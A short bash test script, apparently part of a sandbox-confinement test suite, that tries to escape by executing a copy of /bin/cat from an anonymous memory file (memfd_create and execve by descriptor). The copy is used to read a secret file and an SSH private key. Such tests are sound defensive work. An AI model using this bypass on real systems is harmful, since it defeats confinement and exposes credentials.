#!/bin/bash
# must NOT use a memory file, executed by its descriptor, to get rid of the confinement. Success (exit 0) = the escape WORKED; any other exit = held; 77 = prerequisite missing.
. "${SBX_ENV:-./attack.env}" || exit 77
needpy
$PY - <<'P' 2>/dev/null | atk_check
import os
f=os.memfd_create("x",0); os.write(f,open("/bin/cat","rb").read())
if os.fork()==0: os.execve(f,["cat",os.environ["ATK_OUT"]+"/secret.txt",os.environ["ATK_HOME"]+"/.ssh/atk_id"],{})
os.wait()
P
